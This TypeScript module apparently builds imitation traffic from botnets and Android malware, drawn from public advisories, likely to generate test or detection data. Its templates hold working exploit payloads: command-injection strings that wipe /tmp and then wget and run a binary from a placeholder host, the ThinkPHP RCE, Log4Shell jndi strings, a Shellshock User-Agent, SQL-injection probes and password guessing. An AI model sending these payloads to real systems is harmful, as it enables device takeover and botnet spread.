import { FORM, socket } from './clients.ts';
import { again, elsewhere, type Imitation, imitation } from './imitation.ts';
import { apacheClient, curl, dalvik, okHttp, pythonRequests, pythonUrllib } from './library-clients.ts';

const SCANS = { source: 'public advisories and honeypot reports (Unit 42, Netlab 360, SANS ISC)' } as const;
const PHONES = {
  source: 'vendor descriptions of Android malware (Kaspersky, ESET, ThreatFabric, Check Point)',
} as const;

const DROP = 'cd+/tmp;rm+-rf+*;wget+http://{address}/{pick:jaws|{lower:4}};sh+/tmp/{pick:jaws|{lower:4}}';

/** Devices that were taken over look for the next ones; servers are tried with known holes. */
const scanners: readonly Imitation[] = [
  imitation(
    'Mirai',
    'cameras and routers: a command in a query, Hello World as User-Agent',
    '{address}',
    [
      elsewhere(
        '{address}',
        `GET /shell?${DROP} HTTP/1.1\nUser-Agent: {pick:Hello, world|Hello, World|KrebsOnSecurity}\nHost: {pick:127.0.0.1:80|{host}}\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8\nConnection: keep-alive\n\n`,
        2,
      ),
      elsewhere(
        '{address}',
        socket('POST /HNAP1/ HTTP/1.0', {
          more: 'Content-Type: text/xml; charset="utf-8"\nSOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && rm -rf * && wget http://{address}/{lower:4}`',
          body: '{base64:90}',
        }),
      ),
      elsewhere(
        '{address}',
        'POST /GponForm/diag_Form?images/ HTTP/1.1\nHost: 127.0.0.1:{pick:80|8080}\nConnection: keep-alive\nAccept-Encoding: gzip, deflate\nAccept: */*\nUser-Agent: Hello, World\nContent-Length: {length}\n\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``',
      ),
    ],
    { ...SCANS, machines: 3 },
  ),
  imitation(
    'Satori',
    'routers: upgrade by SOAP with a digest, picture service by SOAPAction',
    '{address}:{pick:8080|80}',
    [
      elsewhere(
        '{address}:8080',
        'POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\nHost: {host}\nUser-Agent: {pick:Hello-World|r00ts3c-owned-you|python-requests/2.20.0}\nContent-Length: {length}\nConnection: keep-alive\nAccept: */*\nAccept-Encoding: gzip, deflate\nAuthorization: Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="{hex:32}", uri="/ctrlt/DeviceUpgrade_1", response="{hex:32}", algorithm="MD5", qop="auth", nc=00000001, cnonce="{hex:16}"\n\n{base64:200}',
        2,
      ),
      elsewhere(
        '{address}:8080',
        'POST /picdesc.xml HTTP/1.1\nHost: {host}\nContent-Length: {length}\nAccept-Encoding: gzip, deflate\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\nAccept: */*\nUser-Agent: Hello-World\nConnection: keep-alive\n\n{base64:200}',
        2,
      ),
    ],
    SCANS,
  ),
  imitation(
    'Hakai',
    'web frameworks: a function call in the query',
    '{address}',
    [
      elsewhere(
        '{address}',
        'GET /{pick:index.php|public/index.php}?s=/index/{pick:%5C|}think{pick:%5C|%07}app/invokefunction&function=call_user_func_array&vars[0]={pick:shell_exec|system|phpinfo}&vars[1][]={pick:wget%20http://{address}/{lower:4}|1} HTTP/1.1\nHost: {host}\nConnection: keep-alive\nAccept-Encoding: gzip, deflate\nAccept: */*\nUser-Agent: {pick:Uirusu/2.0|Tsunami|Hello World|Mozila/5.0}\n\n',
        3,
      ),
      elsewhere(
        '{address}',
        'GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{address}:{number:1024-65000}/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\n\n',
        2,
      ),
    ],
    SCANS,
  ),
  imitation(
    'Muhstik',
    'servers: content systems, script servers and log lines',
    '{address}:{pick:80|8080|7080}',
    [
      elsewhere(
        '{address}',
        pythonRequests(
          'POST /{pick:user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax|?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup}',
          { type: FORM, body: 'form_id=user_register_form&{base64url:80}' },
        ),
      ),
      elsewhere(
        '{address}:7080',
        'POST /wls-wsat/CoordinatorPortType HTTP/1.1\nHost: {host}\nUser-Agent: {pick:Mozilla/5.0|Go-http-client/1.1}\nContent-Length: {length}\nContent-Type: text/xml\nAccept-Encoding: gzip\n\n{base64:200}',
      ),
      elsewhere(
        '{address}:8080',
        'GET /?{lower:1}=$\\{jndi:ldap://{address}:1389/a\\} HTTP/1.1\nHost: {host}\nUser-Agent: $\\{jndi:ldap://{address}:{pick:1389|12344}/{pick:Exploit|Basic/Command/Base64/{base64:30}}\\}\nReferer: $\\{jndi:ldap://{address}:1389/a\\}\nAccept-Encoding: gzip\n\n',
      ),
    ],
    SCANS,
  ),
  imitation(
    'ShellshockBot',
    'CGI scripts: a function in the User-Agent',
    '{address}',
    [
      elsewhere(
        '{address}',
        'GET /cgi-bin/{pick:test.cgi|status|hello|authLogin.cgi|php} HTTP/1.{pick:0|1}\nHost: {host}\nUser-Agent: () \\{ :;\\}; /bin/bash -c "wget http://{address}/{word} -O /tmp/{lower:4};sh /tmp/{lower:4}"\nAccept: */*\n\n',
        3,
      ),
    ],
    SCANS,
  ),
  imitation(
    'WebScanner',
    'looks for administration pages and settings left open',
    '{address}',
    [
      elsewhere(
        '{address}',
        'GET /{pick:w00tw00t.at.blackhats.romanian.anti-sec:)|phpMyAdmin/scripts/setup.php|pma/scripts/setup.php|myadmin/scripts/setup.php|muieblackcat|admin/config.php} HTTP/1.1\nAccept: */*\nAccept-Language: en-us\nAccept-Encoding: gzip, deflate\nUser-Agent: {pick:ZmEu|Morfeus Fucking Scanner|Toata dragostea mea pentru diavola}\nHost: {host}\nConnection: Close\n\n',
        3,
      ),
      elsewhere(
        '{address}',
        pythonUrllib(
          'GET /{pick:.env|.git/config|wp-login.php|vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php|solr/admin/info/system|manager/html|HNAP1}',
        ),
        3,
      ),
      elsewhere(
        '{address}',
        'POST /{pick:wp-login.php|xmlrpc.php|administrator/index.php} HTTP/1.{pick:0|1}\nHost: {host}\nUser-Agent: Mozilla/5.0 (Windows NT 6.1; rv:{number:19-34}.0) Gecko/20100101 Firefox/{number:19-34}.0\nAccept: */*\nContent-Type: application/x-www-form-urlencoded\nCookie: wordpress_test_cookie=WP+Cookie+check\nContent-Length: {length}\n\nlog=admin&pwd={word}{digits:3}',
        3,
      ),
    ],
    { ...SCANS, machines: 3 },
  ),
  imitation(
    'SqlInjector',
    'tool that tries a form again and again with queries',
    '{site}',
    [
      again(
        5,
        'GET /{page=word}.{ending=pick:php|asp|jsp}?id={number:1-90}{pick:%20AND%20{digits:4}%3D{digits:4}|%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x{hex:10}%2C0x{hex:20}%29--%20|%20AND%20SLEEP%285%29|%29%20ORDER%20BY%20{number:1-20}--%20} HTTP/1.1\nAccept-Encoding: gzip,deflate\nHost: {host}\nAccept: */*\nUser-Agent: sqlmap/1.{number:0-7}.{number:1-12}#stable (https://sqlmap.test)\nConnection: close\nCache-Control: no-cache\n\n',
        1,
      ),
    ],
    SCANS,
  ),
  imitation(
    'DeviceBot',
    'taken-over device fetches its next part and reports, by its own socket or a small wget',
    '{address}',
    [
      again(
        2,
        'GET /{pick:bins/|}{pick:{lower:4-6}|sora|mozi}.{pick:arm7|mips|mpsl|x86|a|m|sh4} HTTP/1.{pick:0|1}\nHost: {host}\nUser-Agent: {pick:Wget|wget|Hello-World|dlr}\nConnection: close\n\n',
      ),
      'GET /{pick:bins/|}{pick:mirai|{lower:4}}.{pick:arm|ppc|spc} HTTP/1.0\n\n',
      curl('GET /{pick:{lower:3}.sh|8UsA.sh|{word}}', { agent: 'curl/7.{number:19-40}.0' }),
    ],
    { ...SCANS, machines: 3 },
  ),
];

/** Telephones. */
const phones: readonly Imitation[] = [
  imitation(
    'BankBot',
    'form of one encrypted value to scripts of a private folder',
    '{generated}',
    [
      again(
        3,
        dalvik('POST /private/{pick:tuk_tuk|add_log|set_data|checkPanel}.php', {
          type: FORM,
          body: 'p={base64url:120-200}',
        }),
      ),
    ],
    PHONES,
  ),
  imitation(
    'Cerberus',
    'bots of one panel: form with an action and encrypted data',
    '{address}',
    [
      again(
        3,
        okHttp('POST /gate.php', {
          type: FORM,
          body: 'action={pick:botcheck|injcheck|getinj|registration}&data={base64url:150}',
        }),
      ),
    ],
    PHONES,
  ),
  imitation(
    'DroidKungFu',
    'search page that takes the telephone number and model',
    '{site}:{pick:80|8080}',
    [
      again(
        2,
        apacheClient('POST /search/{pick:sayhi|rpty|getty|bindsayhi}.php', {
          type: FORM,
          body: 'imei={imei=digits:15}&ostype=2.2&osapi=8&mobile=&mobilemodel=GT-I9000',
        }),
      ),
    ],
    PHONES,
  ),
  imitation(
    'Plankton',
    'commands of a protocol gateway, developer and application numbers',
    'www.{site}',
    [
      again(
        2,
        apacheClient(
          'POST /ProtocolGW/{pick:protocol/commands|protocol/installation|protocol/activate|fallback/terminate}',
          {
            type: FORM,
            body: 'userId={digits:9}&applicationId={digits:9}&developerId={digits:9}&deviceId={guid}&currentVersion=-1',
          },
        ),
      ),
    ],
    PHONES,
  ),
  imitation(
    'FakeInst',
    'sends premium messages: asks for numbers by model and operator',
    '{generated}',
    [
      again(
        2,
        dalvik(
          'GET /{pick:getTask|rq|settings|get}.php?{pick:imei|id}={imei=digits:15}&{pick:op|mcc}={digits:5}&{pick:model|phone}={pick:GT-I9100|HTC+Desire|LG-P500}&sub={number:1-900}',
        ),
      ),
    ],
    PHONES,
  ),
  imitation(
    'Triada',
    'modules and plug-ins asked for with a JSON or encrypted POST',
    'sdk.{generated}',
    [
      again(
        2,
        dalvik('POST /{pick:api/v1/{word}|report|upload/logs|dws|}{small:4}', {
          type: '{pick:application/json|application/octet-stream}',
          body: '{base64:200}',
        }),
      ),
      apacheClient('POST /{word}/{pick:service|{word}.do|action}', { type: FORM, body: '{base64url:200}' }),
    ],
    PHONES,
  ),
  imitation(
    'PhoneAdware',
    'hidden advertisements: settings by identifiers, clicks reported',
    'ad.{generated}',
    [
      again(
        2,
        okHttp(
          'GET /{pick:api/config|v1/offers|sdk/init}?{pick:gaid|aid}={guid}&pkg=com.{word}.{word}&mcc={number:200-740}&ver={number:1-40}&sign={hex:32}',
        ),
      ),
      dalvik('POST /{pick:click|track|stat}/{small:8}', { type: FORM, body: 'd={base64url:120}' }),
    ],
    PHONES,
  ),
  imitation(
    'PhoneSpy',
    'stolen messages and contacts uploaded, commands asked for',
    '{address}:{pick:80|8080}',
    [
      okHttp('POST /{pick:upload|addcontact|sms|calls}.php', {
        type: 'multipart/form-data; boundary={guid}',
        body: '{bytes:300-600}',
      }),
      again(2, dalvik('GET /{pick:cmd|getcommand|commands}.php?{pick:uid|imei}={imei=digits:15}')),
      dalvik('POST /{pick:reg|register|s}.php', {
        type: FORM,
        agent:
          '{pick:Mozilla/5.0 (Linux; U; Android 2.2; en-us; Nexus One Build/FRF91) AppleWebKit/533.1 (KHTML, like Gecko) Version/4.0 Mobile Safari/533.1|Android}',
        body: 'imei={imei}&number=&country=de&model=GT-I9300',
      }),
    ],
    { ...PHONES, machines: 3 },
  ),
];

/** What devices and telephones say that were taken over. */
export const thingsAndPhones: readonly Imitation[] = [...scanners, ...phones];
